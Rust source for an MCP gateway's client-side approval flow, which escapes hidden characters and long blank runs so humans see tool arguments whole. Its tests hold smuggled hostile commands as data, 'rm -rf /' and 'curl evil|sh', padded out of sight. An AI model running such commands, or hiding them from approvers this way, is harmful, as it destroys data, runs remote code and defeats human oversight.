//! `ask_via = "client"`: an `ask` answered by the human at the agent's client, through an
//! elicitation that names the tool, summarizes the arguments, gives the rule's reason and
//! asks a yes/no question.
//!
//! - Legacy doors, a client that declared `elicitation`: the call is held as for the
//!   operator, and the gateway sends the client an `elicitation/create` request (an id of
//!   its own); the answer decides the call (the operator may still decide it first).
//! - 2026-07-28 HTTP door, a client that declared `elicitation`: the request is answered
//!   `input_required` with the elicitation and a sealed `requestState` binding principal,
//!   tool, the SHA-256 of the arguments, the policy (its fingerprint and deciding rule), an
//!   expiry and a nonce; nothing is held. The retry is a new call, judged again: it runs only
//!   if the state opens under toolwall's key (any replica holding the same key file), names
//!   this principal, tool and arguments, has not expired, was not used before, the policy
//!   still asks by the same rule, and the human said yes.
//! - Any other client cannot be asked: the operator path, as for `ask_via = "operator"`.
//!
//! The row says who decided (`client:<principal>`) and when.

use serde_json::{Map, Value, json};
use std::collections::HashMap;

use super::dispatch::RequestCtx;
use super::exchange::{Exchange, Routed};
use super::relay::ID_PREFIX;
use super::request_state::Claims;
use super::{Action, ConnRef, Core, Recorder};
use crate::ledger::{CallEnd, decision};
use crate::mcp::jsonrpc;
use crate::mcp::tool_error::ToolErrorCode;
use crate::policy::{AskVia, Verdict};

/// The `inputRequests` key of an approval asked of a 2026-07-28 client.
pub const ASK_KEY: &str = "toolwall-approval";
/// Longest approval question's arguments (characters, as shown). Arguments that do not fit
/// whole are not put to the client at all: the operator decides (a cut value or a key left
/// out would let a call be approved for what the human never saw).
pub const SUMMARY_CHARS: usize = 4000;
/// Nonces of used approvals remembered (until they expire); beyond, asks at the client go
/// to the operator.
pub const MAX_USED_APPROVALS: usize = 100_000;

/// A client's approval carried by the request now in the pipeline.
#[derive(Debug, Clone)]
pub struct ClientApproval {
    pub approved: bool,
    /// The rule that asked, the policy it was asked under.
    pub rule: String,
    pub policy: String,
    pub who: String,
    /// Why it was declined, when it was.
    pub reason: Option<String>,
}

/// Approvals asked of clients: the legacy ones in flight, the nonces already used.
#[derive(Debug, Default)]
pub struct ClientAsks {
    /// The gateway's request id (its key) → the held call.
    pub asked: HashMap<u64, u64>,
    /// Nonce → expiry (wall ms): good once.
    pub used: HashMap<String, i64>,
    /// The approval of the request being judged now (set only while it is).
    pub current: Option<ClientApproval>,
}

/// A character that would hide or reorder what the human reads: controls, format
/// characters (bidi overrides and isolates, zero-width ones), tag characters, line and
/// paragraph separators, variation selectors, and every blank but the plain space (a run of
/// U+2800 or U+3000 pushes a value's tail out of sight as well as spaces do).
fn hides(c: char) -> bool {
    c.is_control()
        || (c.is_whitespace() && c != ' ')
        || matches!(c,
            '\u{00AD}' | '\u{034F}' | '\u{061C}' | '\u{115F}' | '\u{1160}' | '\u{17B4}'
            | '\u{17B5}' | '\u{180E}' | '\u{200B}'..='\u{200F}' | '\u{2028}'..='\u{202E}'
            | '\u{2060}'..='\u{206F}' | '\u{2800}' | '\u{3164}' | '\u{FE00}'..='\u{FE0F}'
            | '\u{FEFF}' | '\u{FFA0}' | '\u{FFF9}'..='\u{FFFB}' | '\u{E0000}'..='\u{E007F}'
            | '\u{E0100}'..='\u{E01EF}')
}

/// Spaces in a row shown as they are; a longer run is written as its count, so that no run
/// of blanks pushes the rest of a value out of sight.
const SPACES_SHOWN: usize = 4;

/// `value` as the human should read it: its JSON text (strings quoted, so `"1"` and `1`, or
/// a key holding `: `, cannot pass for one another), every hiding character written as
/// `\u{XXXX}` and a long run of spaces as `\u{20}×N` (JSON text has no bare backslash, so
/// neither can be typed by the caller).
fn shown(value: &Value) -> String {
    let text = value.to_string();
    let mut out = String::with_capacity(text.len());
    let mut spaces = 0usize;
    let flush = |out: &mut String, spaces: &mut usize| {
        if *spaces > SPACES_SHOWN {
            out.push_str(&format!("\\u{{20}}×{spaces}"));
        } else {
            out.extend(std::iter::repeat_n(' ', *spaces));
        }
        *spaces = 0;
    };
    for c in text.chars() {
        if c == ' ' {
            spaces += 1;
            continue;
        }
        flush(&mut out, &mut spaces);
        if hides(c) {
            out.push_str(&format!("\\u{{{:04X}}}", c as u32));
        } else {
            out.push(c);
        }
    }
    flush(&mut out, &mut spaces);
    out
}

/// The arguments as the approval question shows them, whole: one `"key": value` line per
/// key, in JSON, escaped. `None` when they do not fit in [`SUMMARY_CHARS`]: then the client
/// is not asked.
pub fn summarize_arguments(args: Option<&Value>) -> Option<String> {
    let text = match args {
        None => "(no arguments)".to_owned(),
        Some(Value::Object(map)) if map.is_empty() => "(no arguments)".to_owned(),
        Some(Value::Object(map)) => map
            .iter()
            .map(|(key, value)| format!("{}: {}", shown(&Value::String(key.clone())), shown(value)))
            .collect::<Vec<_>>()
            .join("\n"),
        Some(other) => shown(other),
    };
    (text.chars().count() <= SUMMARY_CHARS).then_some(text)
}

/// The elicitation that asks the human about a call.
fn approval_request(x: &Exchange) -> Value {
    let reason = x
        .request_decision
        .reason
        .clone()
        .unwrap_or_else(|| "a rule asks for approval".into());
    let message = format!(
        "toolwall asks before this call runs ({reason}).\n\nTool: {}\nArguments:\n{}\n\nAllow it?",
        x.display_name(),
        summarize_arguments(x.arguments()).unwrap_or_default()
    );
    json!({
        "mode": "form",
        "message": message,
        "requestedSchema": {
            "type": "object",
            "properties": {
                "approve": {
                    "type": "boolean",
                    "title": "Allow this call",
                    "description": format!("Run {} with the arguments shown", x.display_name()),
                }
            },
            "required": ["approve"],
        },
    })
}

/// What the human answered: approved, or why not.
fn read_answer(result: Option<&Value>) -> Result<(), String> {
    let Some(r) = result else {
        return Err("no answer".into());
    };
    match r.get("action").and_then(Value::as_str) {
        Some("accept") => match r.pointer("/content/approve") {
            Some(Value::Bool(true)) => Ok(()),
            _ => Err("declined at the client".into()),
        },
        Some("decline") => Err("declined at the client".into()),
        Some("cancel") => Err("cancelled at the client".into()),
        _ => Err("the client's answer was not understood".into()),
    }
}

impl<R: Recorder> Core<R> {
    /// Whether a held call is to be asked at its (legacy) client now.
    pub(super) fn client_can_be_asked(&self, x: &Exchange) -> bool {
        x.request_decision.ask_via == AskVia::Client
            && !x.relay.modern
            && x.relay.caps.elicitation
            && x.from.conn.is_some()
            && summarize_arguments(x.arguments()).is_some()
    }

    /// Send the held call `key` its approval question (legacy doors).
    pub(super) fn ask_client(&mut self, key: u64) {
        let Some(x) = self.calls.get(key).and_then(|c| c.exchange()) else {
            return;
        };
        let Some(conn) = x.from.conn else {
            return;
        };
        let params = approval_request(x);
        let stream = x.from.stream;
        let ledger_id = x.ledger_id;
        let rk = self.calls.new_key();
        let id = format!("{ID_PREFIX}{rk}");
        self.client_asks.asked.insert(rk, key);
        if let Some(x) = self.calls.get_mut(key).and_then(|c| c.exchange_mut()) {
            x.relay.client_ask = Some(rk);
        }
        self.records.stage_event(
            "relay",
            &json!({"call_id": ledger_id, "direction": "to_client", "method": "elicitation/create",
                    "decision": "relayed", "relay_id": id, "purpose": "approval"}),
        );
        let msg =
            json!({"jsonrpc": "2.0", "id": id, "method": "elicitation/create", "params": params});
        self.actions.push(Action::Relay {
            conn,
            stream,
            call: key,
            bytes: msg.to_string().into_bytes(),
            request_id: Some(id),
        });
    }

    /// A legacy client answered an approval question; false when `rk` is not one.
    pub(super) fn on_client_approval(
        &mut self,
        conn: ConnRef,
        rk: u64,
        result: Option<&str>,
    ) -> bool {
        let Some(&key) = self.client_asks.asked.get(&rk) else {
            return false;
        };
        let from_holder = self
            .calls
            .get(key)
            .and_then(|c| c.exchange())
            .is_some_and(|x| x.from.conn == Some(conn));
        if !from_holder {
            return true;
        }
        self.client_asks.asked.remove(&rk);
        let Some(principal) = self
            .calls
            .get(key)
            .and_then(|c| c.exchange())
            .map(|x| x.from.principal.clone())
        else {
            return true;
        };
        let result = result.and_then(|r| serde_json::from_str::<Value>(r).ok());
        let who = format!("client:{principal}");
        let outcome = read_answer(result.as_ref());
        let reason = outcome.as_ref().err().cloned();
        // Decided by the operator in the meantime: nothing to do.
        let _ = self.decide_approval(key, outcome.is_ok(), &who, reason.as_deref(), self.now);
        true
    }

    /// The call's ask goes to a 2026-07-28 client (answered `input_required`), or the
    /// request carries the client's approval (applied here). `Some` gives the call back
    /// for the held path.
    pub(super) fn ask_at_client_or_apply(&mut self, x: Box<Exchange>) -> Option<Box<Exchange>> {
        if let Some(approval) = self.client_asks.current.take() {
            self.apply_client_approval(x, approval);
            return None;
        }
        let modern_ask = x.request_decision.ask_via == AskVia::Client
            && x.relay.modern
            && x.relay.caps.elicitation
            && x.from.conn.is_some()
            && self.relay.key.is_some()
            && self.client_asks.used.len() < MAX_USED_APPROVALS
            && summarize_arguments(x.arguments()).is_some();
        if !modern_ask {
            return Some(x);
        }
        self.ask_modern_client(x);
        None
    }

    /// Answer the request `input_required`: the approval question and a sealed state.
    fn ask_modern_client(&mut self, x: Box<Exchange>) {
        let timeout_ms = i64::try_from(self.policy.ask_timeout().as_millis()).unwrap_or(i64::MAX);
        self.relay.issued += 1;
        let nonce = format!("{}-a{}", self.relay.instance, self.relay.issued);
        let claims = Claims {
            kind: "ask".into(),
            principal: x.from.principal.clone(),
            tool: x.display_name(),
            args: x.relay.arrived_args.clone(),
            policy: self.policy.fingerprint().to_owned(),
            rule: x
                .request_decision
                .rule
                .as_deref()
                .unwrap_or_default()
                .to_owned(),
            expires_ms: self.wall_ms().saturating_add(timeout_ms),
            call: 0,
            round: 0,
            nonce: nonce.clone(),
        };
        let Some(state) = self.relay.key.as_ref().map(|k| k.seal(&claims)) else {
            return;
        };
        let mut requests = Map::new();
        requests.insert(
            ASK_KEY.into(),
            json!({"method": "elicitation/create", "params": approval_request(&x)}),
        );
        let result = json!({"resultType": "input_required", "inputRequests": requests,
                            "requestState": state});
        self.event(
            "ask_pending",
            json!({"call_id": x.ledger_id, "method": x.routed.method(), "tool": x.display_name(),
                   "principal": x.from.principal, "via": "client", "nonce": nonce,
                   "expires_ms": claims.expires_ms}),
        );
        let message =
            "asked the human at the client (input_required); its retry is a call of its own";
        let text = result.to_string();
        self.records.stage_call_end(
            x.ledger_id,
            &CallEnd {
                decision: decision::PENDING,
                policy_rule: None,
                policy_reason: None,
                duration_us: self.elapsed_us(self.now),
                error_message: Some(message),
                bytes_sent: text.len(),
                response: text.as_bytes(),
                rewritten_arguments: None,
                original_response: None,
                approved_by: None,
                decided_at_ms: None,
            },
        );
        if let Some(conn) = x.from.conn {
            let bytes = jsonrpc::result_response(&x.from.id, &text);
            self.reply(conn, x.from.stream, &x.from.id, Some(x.ledger_id), bytes);
        }
    }

    /// The request carried a client's approval and the policy still asks by the same
    /// rule: run the call (who approved on its row first) or refuse it.
    fn apply_client_approval(&mut self, mut x: Box<Exchange>, approval: ClientApproval) {
        let decided = self.wall_ms();
        let same_rule = x.request_decision.rule.as_deref() == Some(approval.rule.as_str());
        self.event(
            "ask_decided",
            json!({"call_id": x.ledger_id, "approved": approval.approved && same_rule,
                   "by": approval.who, "reason": approval.reason, "via": "client",
                   "policy_changed": approval.policy != self.policy.fingerprint()}),
        );
        x.approved = Some((approval.who.clone(), decided));
        let rule = x.request_decision.rule.clone();
        let refusal = if !same_rule {
            Some(
                "the policy was reloaded and now asks by another rule; call again without the \
                 requestState"
                    .to_owned(),
            )
        } else if !approval.approved {
            Some(format!(
                "denied by {}: {}",
                approval.who,
                approval.reason.as_deref().unwrap_or("declined")
            ))
        } else {
            None
        };
        if let Some(message) = refusal {
            let r = super::pipeline::Refusal {
                code: ToolErrorCode::AskDenied,
                message: &message,
                rule: rule.as_deref(),
                decision: decision::DENIED,
            };
            self.refuse(x, self.now, &r);
            return;
        }
        x.request_decision.verdict = Verdict::Allow;
        x.rewritten = self.rewrite_arguments(&mut x);
        self.records.stage_call_end(
            x.ledger_id,
            &CallEnd {
                decision: decision::ALLOWED,
                policy_rule: None,
                policy_reason: None,
                duration_us: 0,
                error_message: None,
                bytes_sent: 0,
                response: b"",
                rewritten_arguments: None,
                original_response: None,
                approved_by: Some(&approval.who),
                decided_at_ms: Some(decided),
            },
        );
        self.forward(x, self.now);
    }

    /// A client's approval pending for a request the policy did not `ask` about: the
    /// message refusing it (taken, so it never applies to another request).
    pub(super) fn stale_client_approval(&mut self) -> Option<String> {
        self.client_asks.current.take().map(|a| {
            format!(
                "the policy was reloaded and no longer asks about this call by rule {}; call \
                 again without the requestState",
                a.rule
            )
        })
    }

    /// A retry carrying an approval's state (see `input_retry.rs`): checked, then judged
    /// again as a new call with the approval in hand.
    pub(super) fn resume_client_ask(
        &mut self,
        ctx: &RequestCtx,
        routed: Routed,
        params: &Value,
        claims: &Claims,
    ) -> Result<(), String> {
        if claims.principal != ctx.peer.principal {
            return Err("it was issued to another principal".into());
        }
        let now_ms = self.wall_ms();
        if claims.expires_ms <= now_ms {
            return Err("the approval has expired (policy.ask_timeout_secs)".into());
        }
        let named = self.called_name(routed, params);
        if named != claims.tool {
            return Err("it was issued for another tool".into());
        }
        if super::input_retry::arrived_arguments_hash(routed, params) != claims.args {
            return Err("it was issued for other arguments".into());
        }
        self.client_asks.used.retain(|_, expires| *expires > now_ms);
        if self.client_asks.used.contains_key(&claims.nonce) {
            return Err("it was already used (each approval is good once)".into());
        }
        self.client_asks
            .used
            .insert(claims.nonce.clone(), claims.expires_ms);
        self.event(
            "client_approval_used",
            json!({"nonce": claims.nonce, "expires_ms": claims.expires_ms,
                   "principal": claims.principal, "tool": claims.tool}),
        );
        let answer = params.get("inputResponses").and_then(|r| r.get(ASK_KEY));
        let outcome = read_answer(answer);
        self.client_asks.current = Some(ClientApproval {
            approved: outcome.is_ok(),
            rule: claims.rule.clone(),
            policy: claims.policy.clone(),
            who: format!("client:{}", claims.principal),
            reason: outcome.err(),
        });
        // Judged again as the call it is, without the retry's fields.
        let mut clean = params.clone();
        if let Some(m) = clean.as_object_mut() {
            m.remove("requestState");
            m.remove("inputResponses");
        }
        let raw = serde_json::value::to_raw_value(&clean).map_err(|e| e.to_string())?;
        self.begin_exchange(ctx, routed, Some(&raw));
        self.client_asks.current = None;
        Ok(())
    }

    /// Nonces of approvals used before this process started (read from the ledger by the
    /// loop): still good once across a restart.
    pub fn remember_used_approvals(&mut self, used: impl IntoIterator<Item = (String, i64)>) {
        for (nonce, expires) in used {
            if self.client_asks.used.len() >= MAX_USED_APPROVALS {
                break;
            }
            self.client_asks.used.insert(nonce, expires);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_question_shows_every_argument_whole_or_is_not_asked() {
        // A dangerous tail after a run of blanks, and a key past the first twenty.
        let mut args = serde_json::Map::new();
        for k in 0..60 {
            args.insert(format!("k{k:02}"), json!("v"));
        }
        args.insert(
            "zz_cmd".into(),
            json!(format!("echo hi{}&& rm -rf /", " ".repeat(400))),
        );
        let shown = summarize_arguments(Some(&Value::Object(args))).expect("fits");
        assert!(
            shown.contains(r#""zz_cmd": "echo hi\u{20}×400&& rm -rf /""#),
            "{shown}"
        );
        assert!(shown.contains(r#""k59": "v""#), "{shown}");
        // Too long to show whole: not asked at the client (the operator decides).
        let long = json!({"content": "x".repeat(SUMMARY_CHARS)});
        assert_eq!(summarize_arguments(Some(&long)), None);
        // Other blanks are written out, so a run of them cannot hide a tail either.
        let blanks = json!({"cmd": format!("ls{}; curl evil|sh", "\u{2800}".repeat(3900))});
        assert_eq!(summarize_arguments(Some(&blanks)), None);
    }

    #[test]
    fn different_arguments_never_read_the_same() {
        let pairs = [
            (json!({"a: b": "c"}), json!({"a": "b: c"})),
            (json!({"n": "1"}), json!({"n": 1})),
            (json!({"t": "true"}), json!({"t": true})),
            (json!({"s": "\\u{20}×400"}), json!({"s": " ".repeat(400)})),
        ];
        for (x, y) in pairs {
            assert_ne!(
                summarize_arguments(Some(&x)),
                summarize_arguments(Some(&y)),
                "{x} {y}"
            );
        }
    }

    #[test]
    fn hiding_characters_are_written_out() {
        let args = json!({"a\u{202E}b": "x\u{200B}y\u{E0041}\u{2066}z\u{a0}w"});
        let shown = summarize_arguments(Some(&args)).unwrap();
        assert_eq!(
            shown,
            r#""a\u{202E}b": "x\u{200B}y\u{E0041}\u{2066}z\u{00A0}w""#
        );
        assert!(!shown.chars().any(hides), "{shown:?}");
        assert_eq!(summarize_arguments(None).as_deref(), Some("(no arguments)"));
    }
}
